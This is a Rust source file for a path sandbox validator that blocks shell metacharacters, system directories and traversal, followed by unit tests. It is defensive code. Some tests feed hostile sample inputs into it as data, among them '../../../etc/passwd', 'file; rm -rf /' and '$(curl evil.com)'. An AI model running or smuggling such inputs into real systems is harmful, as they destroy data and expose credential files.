//! Sandbox validator: raw-pattern screen, resolution, containment, mode checks.

use std::fs;
use std::io;
use std::path::{Component, Path, PathBuf};

use thiserror::Error;
use tracing::warn;

/// Absolute path prefixes that are never valid pipeline targets, checked
/// against the raw string before resolution.
const SYSTEM_PREFIXES: &[&str] = &["/etc/", "/proc/", "/dev/", "/sys/", "/boot/"];

/// Shell metacharacters rejected on sight. The pipeline never passes paths
/// through a shell, but a path carrying these has no business in a render
/// output tree either.
const SHELL_METACHARACTERS: &[char] = &[
    ';', '|', '&', '$', '`', '<', '>', '(', ')', '{', '}', '[', ']',
];

/// How the caller intends to use a validated path.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AccessMode {
    /// Path will be opened for reading. Must exist and be a readable file.
    Input,
    /// Path will be created or replaced. Parent must exist (or be creatable
    /// inside the sandbox) and be writable.
    Output,
    /// Path must be an existing directory.
    Directory,
}

/// A rejected path. Display text carries the violation category only, never
/// the raw attacker-controlled string.
#[derive(Debug, Error)]
pub enum SecurityViolation {
    #[error("dangerous pattern in path: {pattern}")]
    DangerousPattern { pattern: &'static str },

    #[error("path could not be resolved")]
    UnresolvablePath(#[source] io::Error),

    #[error("resolved path is outside every allowed root")]
    OutsideSandbox,

    #[error("input path is missing or not readable")]
    NotReadable,

    #[error("output parent directory is missing or not writable")]
    NotWritable,

    #[error("refusing to overwrite hidden file")]
    HiddenOverwrite,

    #[error("path is not a directory")]
    NotADirectory,
}

impl SecurityViolation {
    /// Stable category label for logs and metrics.
    pub fn kind(&self) -> &'static str {
        match self {
            Self::DangerousPattern { .. } => "dangerous_pattern",
            Self::UnresolvablePath(_) => "unresolvable_path",
            Self::OutsideSandbox => "outside_sandbox",
            Self::NotReadable => "not_readable",
            Self::NotWritable => "not_writable",
            Self::HiddenOverwrite => "hidden_overwrite",
            Self::NotADirectory => "not_a_directory",
        }
    }
}

/// Validates that paths resolve inside a fixed set of allowed roots.
///
/// The root set is established at startup and immutable afterwards. Roots are
/// canonicalized once at construction so containment checks compare resolved
/// forms on both sides.
#[derive(Debug, Clone)]
pub struct PathSandbox {
    roots: Vec<PathBuf>,
}

impl PathSandbox {
    /// Build a sandbox from allowed root directories.
    ///
    /// Each root must exist; roots are canonicalized here so later containment
    /// checks are symlink-safe on both sides.
    pub fn new<I, P>(roots: I) -> Result<Self, SecurityViolation>
    where
        I: IntoIterator<Item = P>,
        P: AsRef<Path>,
    {
        let mut resolved = Vec::new();
        for root in roots {
            let canonical = fs::canonicalize(root.as_ref())
                .map_err(SecurityViolation::UnresolvablePath)?;
            resolved.push(canonical);
        }
        Ok(Self { roots: resolved })
    }

    /// The canonicalized allowed roots.
    pub fn roots(&self) -> &[PathBuf] {
        &self.roots
    }

    /// Validate a raw path for the given access mode.
    ///
    /// Returns the canonicalized absolute path on success.
    pub fn validate(
        &self,
        raw: impl AsRef<Path>,
        mode: AccessMode,
    ) -> Result<PathBuf, SecurityViolation> {
        let raw = raw.as_ref();
        match self.validate_inner(raw, mode) {
            Ok(resolved) => Ok(resolved),
            Err(violation) => {
                // Debug formatting escapes control characters, keeping the
                // attacker-controlled string out of the log as raw bytes.
                warn!(
                    kind = violation.kind(),
                    mode = ?mode,
                    path = ?raw.to_string_lossy(),
                    "rejected path"
                );
                Err(violation)
            }
        }
    }

    fn validate_inner(&self, raw: &Path, mode: AccessMode) -> Result<PathBuf, SecurityViolation> {
        screen_raw_text(raw)?;

        let resolved = match mode {
            AccessMode::Output => resolve_allowing_missing_tail(raw)?,
            AccessMode::Input | AccessMode::Directory => {
                fs::canonicalize(raw).map_err(SecurityViolation::UnresolvablePath)?
            }
        };

        if !self.contains(&resolved) {
            return Err(SecurityViolation::OutsideSandbox);
        }

        match mode {
            AccessMode::Input => check_input(&resolved)?,
            AccessMode::Output => check_output(&resolved)?,
            AccessMode::Directory => {
                if !resolved.is_dir() {
                    return Err(SecurityViolation::NotADirectory);
                }
            }
        }

        Ok(resolved)
    }

    /// True when `path` equals, or descends from, at least one allowed root.
    fn contains(&self, path: &Path) -> bool {
        self.roots.iter().any(|root| path.starts_with(root))
    }
}

/// Reject known-dangerous textual patterns before any resolution.
fn screen_raw_text(raw: &Path) -> Result<(), SecurityViolation> {
    let text = raw.to_string_lossy();

    if text.chars().any(|c| c == '\0' || c.is_control()) {
        return Err(SecurityViolation::DangerousPattern {
            pattern: "control character",
        });
    }

    if text.starts_with('~') {
        return Err(SecurityViolation::DangerousPattern {
            pattern: "home expansion `~`",
        });
    }

    if text.chars().any(|c| SHELL_METACHARACTERS.contains(&c)) {
        return Err(SecurityViolation::DangerousPattern {
            pattern: "shell metacharacter",
        });
    }

    for prefix in SYSTEM_PREFIXES {
        if text.starts_with(prefix) || text == prefix.trim_end_matches('/') {
            return Err(SecurityViolation::DangerousPattern {
                pattern: "system directory",
            });
        }
    }

    if raw
        .components()
        .any(|c| matches!(c, Component::ParentDir))
    {
        return Err(SecurityViolation::DangerousPattern {
            pattern: "parent traversal `..`",
        });
    }

    Ok(())
}

/// Canonicalize a path whose final components may not exist yet.
///
/// The longest existing ancestor is canonicalized (following symlinks) and the
/// missing tail is re-joined verbatim. The raw-text screen has already
/// rejected `..`, so the tail cannot climb back out of the resolved ancestor.
fn resolve_allowing_missing_tail(raw: &Path) -> Result<PathBuf, SecurityViolation> {
    if let Ok(resolved) = fs::canonicalize(raw) {
        return Ok(resolved);
    }

    let mut existing = raw.to_path_buf();
    let mut tail: Vec<std::ffi::OsString> = Vec::new();
    loop {
        if let Some(name) = existing.file_name() {
            tail.push(name.to_os_string());
        } else {
            return Err(SecurityViolation::UnresolvablePath(io::Error::new(
                io::ErrorKind::NotFound,
                "no existing ancestor",
            )));
        }
        if !existing.pop() {
            return Err(SecurityViolation::UnresolvablePath(io::Error::new(
                io::ErrorKind::NotFound,
                "no existing ancestor",
            )));
        }
        if existing.as_os_str().is_empty() {
            existing = PathBuf::from(".");
        }
        if existing.exists() {
            break;
        }
    }

    let mut resolved =
        fs::canonicalize(&existing).map_err(SecurityViolation::UnresolvablePath)?;
    for component in tail.iter().rev() {
        resolved.push(component);
    }
    Ok(resolved)
}

fn check_input(resolved: &Path) -> Result<(), SecurityViolation> {
    let meta = fs::metadata(resolved).map_err(|_| SecurityViolation::NotReadable)?;
    if !meta.is_file() {
        return Err(SecurityViolation::NotReadable);
    }
    // Open-for-read probe: permissions metadata alone misses ACL denials.
    fs::File::open(resolved).map_err(|_| SecurityViolation::NotReadable)?;
    Ok(())
}

fn check_output(resolved: &Path) -> Result<(), SecurityViolation> {
    if let Some(name) = resolved.file_name() {
        if name.to_string_lossy().starts_with('.') && resolved.exists() {
            return Err(SecurityViolation::HiddenOverwrite);
        }
    }

    // Nearest existing ancestor must be a writable directory.
    let mut ancestor = resolved
        .parent()
        .ok_or(SecurityViolation::NotWritable)?
        .to_path_buf();
    while !ancestor.exists() {
        if !ancestor.pop() {
            return Err(SecurityViolation::NotWritable);
        }
    }
    let meta = fs::metadata(&ancestor).map_err(|_| SecurityViolation::NotWritable)?;
    if !meta.is_dir() || meta.permissions().readonly() {
        return Err(SecurityViolation::NotWritable);
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use tempfile::TempDir;

    fn sandbox_over(dir: &TempDir) -> PathSandbox {
        PathSandbox::new([dir.path()]).unwrap()
    }

    #[test]
    fn accepts_file_inside_root() {
        let dir = TempDir::new().unwrap();
        let file = dir.path().join("clip.mp4");
        std::fs::write(&file, b"data").unwrap();

        let sandbox = sandbox_over(&dir);
        let resolved = sandbox.validate(&file, AccessMode::Input).unwrap();
        assert!(resolved.is_absolute());
        assert!(resolved.starts_with(sandbox.roots()[0].as_path()));
    }

    #[test]
    fn rejects_dangerous_patterns_before_resolution() {
        let dir = TempDir::new().unwrap();
        let sandbox = sandbox_over(&dir);

        // None of these exist, but they must fail on the raw text screen
        // (DangerousPattern), not on resolution.
        for raw in [
            "../../../etc/passwd",
            "file; rm -rf /",
            "$(curl evil.com)",
            "~/secret",
        ] {
            let err = sandbox.validate(raw, AccessMode::Input).unwrap_err();
            assert!(
                matches!(err, SecurityViolation::DangerousPattern { .. }),
                "{raw} -> {err:?}"
            );
        }
    }

    #[test]
    fn rejects_system_prefixes() {
        let dir = TempDir::new().unwrap();
        let sandbox = sandbox_over(&dir);
        let err = sandbox.validate("/etc/shadow", AccessMode::Input).unwrap_err();
        assert!(matches!(err, SecurityViolation::DangerousPattern { .. }));
    }

    #[test]
    fn rejects_control_characters() {
        let dir = TempDir::new().unwrap();
        let sandbox = sandbox_over(&dir);
        let err = sandbox
            .validate("clip\u{0}.mp4", AccessMode::Input)
            .unwrap_err();
        assert!(matches!(err, SecurityViolation::DangerousPattern { .. }));
    }

    #[test]
    fn rejects_path_outside_root() {
        let inside = TempDir::new().unwrap();
        let outside = TempDir::new().unwrap();
        let victim = outside.path().join("victim.mp4");
        std::fs::write(&victim, b"data").unwrap();

        let sandbox = sandbox_over(&inside);
        let err = sandbox.validate(&victim, AccessMode::Input).unwrap_err();
        assert!(matches!(err, SecurityViolation::OutsideSandbox));
    }

    #[cfg(unix)]
    #[test]
    fn rejects_symlink_escape() {
        let inside = TempDir::new().unwrap();
        let outside = TempDir::new().unwrap();
        let victim = outside.path().join("victim.mp4");
        std::fs::write(&victim, b"data").unwrap();

        // Raw text sits inside the allowed root, resolution escapes it.
        let link = inside.path().join("looks_local.mp4");
        std::os::unix::fs::symlink(&victim, &link).unwrap();

        let sandbox = sandbox_over(&inside);
        let err = sandbox.validate(&link, AccessMode::Input).unwrap_err();
        assert!(matches!(err, SecurityViolation::OutsideSandbox));
    }

    #[test]
    fn output_allows_missing_final_component() {
        let dir = TempDir::new().unwrap();
        let sandbox = sandbox_over(&dir);
        let target = dir.path().join("new_render.mp4");
        let resolved = sandbox.validate(&target, AccessMode::Output).unwrap();
        assert_eq!(resolved.file_name().unwrap(), "new_render.mp4");
    }

    #[test]
    fn output_refuses_hidden_overwrite() {
        let dir = TempDir::new().unwrap();
        let hidden = dir.path().join(".state");
        std::fs::write(&hidden, b"sidecar").unwrap();

        let sandbox = sandbox_over(&dir);
        let err = sandbox.validate(&hidden, AccessMode::Output).unwrap_err();
        assert!(matches!(err, SecurityViolation::HiddenOverwrite));
    }

    #[test]
    fn directory_mode_requires_directory() {
        let dir = TempDir::new().unwrap();
        let file = dir.path().join("clip.mp4");
        std::fs::write(&file, b"data").unwrap();

        let sandbox = sandbox_over(&dir);
        assert!(sandbox.validate(dir.path(), AccessMode::Directory).is_ok());
        let err = sandbox.validate(&file, AccessMode::Directory).unwrap_err();
        assert!(matches!(err, SecurityViolation::NotADirectory));
    }

    #[test]
    fn missing_input_is_not_readable() {
        let dir = TempDir::new().unwrap();
        let sandbox = sandbox_over(&dir);
        let err = sandbox
            .validate(dir.path().join("gone.mp4"), AccessMode::Input)
            .unwrap_err();
        // Canonicalization fails before the readability check.
        assert!(matches!(err, SecurityViolation::UnresolvablePath(_)));
    }
}
